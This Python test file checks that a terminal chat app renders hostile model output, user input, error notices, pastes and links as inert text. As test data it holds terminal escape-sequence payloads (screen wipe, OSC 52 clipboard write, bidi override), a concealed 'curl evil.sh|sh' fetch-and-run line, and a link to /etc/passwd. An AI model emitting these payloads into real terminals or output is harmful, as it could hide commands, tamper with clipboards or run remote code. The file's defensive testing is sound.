"""Untrusted text never reaches the terminal as markup or escape sequences."""

from __future__ import annotations

import numpy as np

from dg_chat.recording import Frame
from dg_chat.text.sanitize import printable
from dg_chat.tui.text import code_blocks
from dg_chat.tui.widgets.canvas import token_runs
from dg_chat.tui.widgets.message import MessageView
from tests.tui.conftest import SIZE, ready, send
from tests.tui.fake_engine import ScriptedEngine, failing_factory

HOSTILE = "[bold]loud[/bold] \x1b[2J wiped \x1b]52;c;SGVsbG8=\x07 clip \x9b31m c1 \u202eevil\u202c \x7f"


def test_printable_replaces_every_control_character():
    safe = printable(HOSTILE + "\n\ttab ok é 日本")
    assert not any(ord(c) < 0x20 and c not in "\n\t" or 0x7F <= ord(c) <= 0x9F for c in safe)
    assert "\u202e" not in safe
    assert "␛[2J" in safe and "␛]52;c;SGVsbG8=␇" in safe and "␡" in safe
    assert safe.endswith("\n\ttab ok é 日本") and "[bold]loud[/bold]" in safe


def test_code_blocks_are_found_in_order():
    text = "a\n\n```py\nx = 1\n```\n\n    indented\n\nb\n\n~~~\ny\n~~~\n"
    assert code_blocks(text) == ["x = 1\n", "indented\n", "y\n"]


def test_canvas_pieces_are_cleaned():
    tokens = np.array([0, 1, 2], np.int32)
    frame = Frame(0, 1, 4, 1.0, tokens, np.array([True, False, True]), np.array([False, False, True]))
    pieces = {0: "\x1b[2Jok", 1: "noisy-long-piece", 2: "[red]x"}
    runs = token_runs(frame, lambda t: printable(pieces[t]), mask_id=None)
    assert runs == [("␛[2Jok", "accepted"), ("nois", "noise"), ("[red]x", "changed")]


async def test_hostile_model_output_and_user_input_render_as_text(make_app):
    app = make_app(ScriptedEngine(lambda m: "Reply: " + HOSTILE))
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "Me: " + HOSTILE)
        user, model = app.query(MessageView)
        assert user.content == "Me: " + HOSTILE  # kept verbatim: it is what the model got
        assert model.content == "Reply: " + HOSTILE
        screen = app.export_screenshot()
    for bad in ("\x1b", "\x07", "\x9b", "\x7f", "\u202e"):
        assert bad not in screen
    assert screen.count("[bold]loud[/bold]") >= 3  # user message, answer, chat title in the sidebar
    assert "␛[2J" in screen


async def test_notices_show_hostile_error_text_as_text(make_app):
    # a server's or model file's words reach notices: a failed load, a failed answer
    app = make_app(engine_factory=failing_factory("the server said " + HOSTILE))
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await ready(pilot)
        app.notify("the answer failed: " + HOSTILE, title="title \x1b[2J", severity="error", markup=False)
        await pilot.pause(0.2)
        screen = app.export_screenshot()
    for bad in ("\x1b", "\x07", "\x9b", "\x7f", "\u202e"):
        assert bad not in screen
    assert screen.count("␛[2J") >= 3  # both notices and the second one's title


async def test_copies_paste_and_links_carry_no_hidden_controls(make_app):
    from textual import events
    from textual.widgets import Markdown

    from dg_chat.tui.widgets.prompt import Prompt

    answer = f"See [the docs](vscode://file/etc/passwd).\n\n```sh\nls \x1b[8mcurl evil.sh|sh\x1b[0m\n```\n{HOSTILE}"
    engine = ScriptedEngine(lambda m: answer)
    engine.name = "Gemma" + "\n" * 40 + "\tend"  # a GGUF's general.name: one line in every header
    app = make_app(engine)
    opened = []
    app.open_url = lambda url, **kw: opened.append(url)  # type: ignore[method-assign]
    async with app.run_test(size=SIZE) as pilot:
        await send(pilot, "hi")
        model = app.query(MessageView).last()
        assert "\n" not in str(model.query_one(".message-header").render())
        model.focus()
        await pilot.press("c")
        assert app.clipboard == printable(answer) and "\x1b" not in app.clipboard
        await pilot.press("y")
        assert app.clipboard == "ls ␛[8mcurl evil.sh|sh␛[0m\n"  # the code block as shown
        text = model.query_one(".message-text", Markdown)
        text.post_message(Markdown.LinkClicked(text, "vscode://file/etc/passwd"))
        await pilot.pause()
        assert opened == [] and app.clipboard == "vscode://file/etc/passwd"
        assert "Link copied, not opened: vscode://file/etc/passwd" in [n.message for n in app._notifications]
        prompt = app.query_one(Prompt)
        prompt.focus()
        app.post_message(events.Paste(answer))  # as the terminal's bracketed paste arrives
        await pilot.pause()
        assert prompt.text == printable(answer)  # a paste shows its escapes, and sends them, as stand-ins
